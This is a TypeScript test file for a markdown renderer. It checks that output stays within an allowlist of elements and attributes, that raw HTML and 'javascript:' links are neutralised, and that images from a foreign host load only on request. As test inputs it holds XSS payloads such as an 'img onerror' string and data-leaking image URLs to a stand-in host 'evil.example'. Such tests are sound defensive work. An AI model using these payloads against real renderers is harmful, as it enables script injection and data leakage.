import { render } from 'lit';
import { afterEach, beforeAll, beforeEach, describe, expect, onTestFinished, test } from 'vitest';
import { en } from '../../../src/locales/en.ts';
import { markdownStyles, renderMarkdownText } from '../../../src/markdown/index.ts';
import { NASTY } from './nasty.ts';

const PNG =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII=';

/** Everything that rendered markdown may consist of. */
const ALLOWED: Readonly<Record<string, readonly string[]>> = {
  div: ['class', 'dir', 'tabindex', 'role', 'aria-label'],
  p: ['class', 'dir'],
  span: ['class', 'dir', 'role', 'aria-label'],
  h3: ['dir'],
  h4: ['dir'],
  h5: ['dir'],
  h6: ['dir'],
  ul: ['dir'],
  ol: ['dir', 'start'],
  li: ['class'],
  pre: ['tabindex', 'role', 'aria-label', 'dir'],
  code: [],
  blockquote: ['dir'],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  th: ['class', 'dir', 'scope'],
  td: ['class', 'dir'],
  hr: [],
  br: [],
  strong: [],
  em: [],
  del: [],
  a: ['href', 'target', 'rel', 'referrerpolicy'],
  img: ['src', 'alt', 'loading', 'decoding', 'referrerpolicy', 'tabindex'],
  button: ['type', 'class', 'aria-label'],
  svg: ['class', 'viewBox', 'aria-hidden'],
  path: ['d'],
};
const CLASSES = [
  'markdown',
  'piece',
  'plain',
  'line',
  'task',
  'table',
  'left',
  'center',
  'right',
  'host',
  'image-chip',
  'text',
  'load-picture',
  'code',
  'bar',
  'language',
  'outcome',
  'copy',
  'icon',
];

let host: HTMLElement;
const violations: string[] = [];

beforeAll(() => {
  // From here on this page is as strict as the strictest host page: a string in an HTML sink throws, a foreign image is reported.
  const policy = document.createElement('meta');
  policy.httpEquiv = 'Content-Security-Policy';
  policy.content =
    "img-src 'self' data: blob:; object-src 'none'; require-trusted-types-for 'script'; trusted-types lit-html";
  document.head.append(policy);
  document.addEventListener('securitypolicyviolation', (event) => {
    violations.push(`${event.violatedDirective} ${event.blockedURI}`);
  });
});

beforeEach(() => {
  violations.length = 0;
  host = document.createElement('div');
  document.body.append(host);
});

afterEach(() => {
  host.remove();
});

function show(text: string, imageOrigins: readonly string[] = []): HTMLElement {
  render(renderMarkdownText(text, { imageOrigins, strings: en }), host);
  return host;
}

/** What is in the tree and not in the list. */
function strangers(root: Element): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const name = element.localName;
    const attributes = ALLOWED[name];
    if (attributes === undefined) return [`<${name}>`];
    const strange = element.getAttributeNames().filter((attribute) => !attributes.includes(attribute));
    const classes = [...element.classList].filter((one) => !CLASSES.includes(one));
    return [...strange.map((attribute) => `<${name} ${attribute}>`), ...classes.map((one) => `<${name} class=${one}>`)];
  });
}

/** What a reader sees of it. */
function wordsOf(element: Element | null): string {
  return element?.textContent.replace(/\s+/g, ' ').trim() ?? '';
}

function badAddresses(root: Element): string[] {
  const links = [...root.querySelectorAll('a')].map((link) => link.getAttribute('href') ?? '');
  const images = [...root.querySelectorAll('img')].map((image) => image.getAttribute('src') ?? '');
  return [
    ...links.filter((href) => !/^(?:https?:\/\/[^@]|mailto:[^?]+$)/.test(href)),
    ...images.filter((src) => !/^data:image\/(?:png|jpeg|gif|webp);base64,/.test(src)),
  ];
}

test('the check itself finds what is not on the list', () => {
  const section = document.createElement('section');
  const link = document.createElement('a');
  link.id = 'x';
  link.className = 'x';
  link.href = 'data:x';
  section.append(link);
  host.append(section);
  expect(strangers(host)).toEqual(['<section>', '<a id>', '<a class>', '<a class=x>']);
  expect(badAddresses(host)).toEqual(['data:x']);
});

test('the page refuses HTML from strings', () => {
  expect(() => {
    Reflect.set(host, ['inner', 'HTML'].join(''), '<b>x</b>');
  }).toThrow(TypeError);
});

test.each<[string, string, string]>([
  ['a list', '1. ذهب أبيض\n2. ياقوت', 'ol'],
  ['a list within a list, in another script', '- gold\n  - ذهب', 'ul ul'],
  ['a loose list', '- ذهب\n\n- ياقوت', 'ul'],
  ['a quotation', '> الخاتم', 'blockquote'],
])('%s has its marks on the side on which its text begins', (_name, text, selector) => {
  const { styleSheet } = markdownStyles;
  if (styleSheet === undefined) throw new Error('There are no style sheets that can be adopted.');
  document.adoptedStyleSheets.push(styleSheet);
  onTestFinished(() => {
    document.adoptedStyleSheets = document.adoptedStyleSheets.filter((one) => one !== styleSheet);
  });
  const directionOf = (one: Element | null) => (one === null ? '' : getComputedStyle(one).direction);
  expect(directionOf(show(text).querySelector(selector))).toBe('rtl');
  expect(directionOf(show('- gold\n- ذهب').querySelector('ul'))).toBe('ltr');
});

describe('hostile markdown stays within the list', () => {
  test.each(NASTY)('%s', (_, text) => {
    for (const place of [
      text,
      `- ${text}`,
      `> ${text}`,
      `# ${text}`,
      `|a|\n|-|\n|${text}|`,
      `[${text}](https://a.example)`,
      `![${text}](https://a.example/i.png)`,
    ]) {
      const root = show(place);
      expect(strangers(root)).toEqual([]);
      expect(badAddresses(root)).toEqual([]);
      for (const link of root.querySelectorAll('a')) {
        expect(link.rel).toBe('noopener noreferrer nofollow ugc');
        expect(link.target).toBe('_blank');
        expect(link.referrerPolicy).toBe('no-referrer');
        expect(link.querySelector('a')).toBeNull();
      }
    }
    expect(violations).toEqual([]);
  });
});

test('HTML is shown to the reader as it was written', () => {
  expect(show('<img src=x onerror=alert(1)>').textContent).toBe('<img src=x onerror=alert(1)>');
});

test('a checked picture is shown, one of a foreign host is offered', () => {
  const root = show(`![ring](${PNG}) ![spy](https://evil.example/?q=secret)`);
  expect(root.querySelectorAll('img')).toHaveLength(1);
  expect(root.querySelector('img')?.alt).toBe('ring');
  const chip = root.querySelector('.image-chip');
  expect(wordsOf(chip)).toBe('spy Load picture from evil.example');
  expect(chip?.querySelector('button')?.type).toBe('button');
});

test('a foreign picture is asked for when its button is pressed, and says so when it does not come', async () => {
  const root = show('![spy](https://evil.example/a.png?q=1)');
  const button = root.querySelector('button');
  button?.focus();
  button?.click();
  const image = root.querySelector('img');
  expect(image?.getAttribute('src')).toBe('https://evil.example/a.png?q=1');
  expect(image?.referrerPolicy).toBe('no-referrer');
  expect(image?.alt).toBe('spy');
  expect(document.activeElement).toBe(image);
  // The policy of this page stops it.
  await expect.poll(() => wordsOf(root.querySelector('.image-chip'))).toBe('spy Picture not available (evil.example)');
  expect(violations).toContain('img-src https://evil.example/a.png?q=1');
});

test('what was asked for stays when the message is rendered again, and another address is offered anew', () => {
  show('![a](https://evil.example/a.png)').querySelector('button')?.click();
  expect(show('![b](https://evil.example/a.png)').querySelector('img')?.alt).toBe('b');
  expect(show('![b](https://evil.example/b.png)').querySelector('img')).toBeNull();
});

test('a foreign picture within a link is offered behind it', () => {
  const root = show('[**![spy](https://evil.example/a.png)** x](https://shop.example/)');
  expect(wordsOf(root)).toBe('spy x (shop.example) spy Load picture from evil.example');
  expect(root.querySelector('a button')).toBeNull();
});

test('a picture of an allowed origin keeps the referrer to itself', () => {
  const image = show('![a](https://cdn.example/a.png)', ['https://cdn.example']).querySelector('img');
  expect(image?.getAttribute('src')).toBe('https://cdn.example/a.png');
  expect(image?.referrerPolicy).toBe('no-referrer');
});

test('a link says where it leads when its text does not', () => {
  expect(show('[our shop](https://evil.example/a)').textContent).toBe('our shop (evil.example)');
  expect(show('https://shop.example/a').textContent).toBe('https://shop.example/a');
  expect(show('[bad](javascript:alert(1))').textContent).toBe('bad');
});

test('what hides or turns text is visible', () => {
  const root = show('a\u202Eb `c\u200Bd`\n\n    e\u{E0041}\u001B[0m');
  expect(wordsOf(root.querySelector('p'))).toBe('a⇄b c◌d');
  expect(root.querySelector('pre')?.textContent).toBe('e␛[0m');
});

test('a code block can be scrolled by keyboard and keeps its line ends', () => {
  const pre = show('```js\nif (a < b) {\n\n  c();\n}\n```').querySelector('pre');
  expect(pre?.textContent).toBe('if (a < b) {\n\n  c();\n}');
  expect(pre?.tabIndex).toBe(0);
  expect(pre?.getAttribute('aria-label')).toBe('Code: js');
});

test('headings begin below that of the panel and leave no level out', () => {
  const root = show('# a\n\n#### b\n\n# c');
  expect([...root.querySelectorAll('h3, h4, h5, h6')].map((heading) => heading.localName)).toEqual(['h3', 'h4', 'h3']);
});

test('the same text rendered again changes nothing on the page', () => {
  show('a **b**\n\n- c');
  const observer = new MutationObserver(() => undefined);
  observer.observe(host, { subtree: true, childList: true, characterData: true, attributes: true });
  show('a **b**\n\n- c');
  expect(observer.takeRecords()).toEqual([]);
});

test('a wide table scrolls in its own box', () => {
  document.adoptedStyleSheets = [...document.adoptedStyleSheets, ...sheets()];
  host.style.setProperty('width', '200px');
  const row = `|${Array.from({ length: 12 }, () => 'wide content').join('|')}|\n`;
  const box = show(row + row.replaceAll('wide content', '---') + row).querySelector('div.table');
  expect(box?.scrollWidth).toBeGreaterThan(200);
  expect(box?.clientWidth).toBeLessThanOrEqual(200);
  expect(host.scrollWidth).toBeLessThanOrEqual(200);
});

function sheets(): CSSStyleSheet[] {
  const sheet = markdownStyles.styleSheet;
  return sheet === undefined ? [] : [sheet];
}
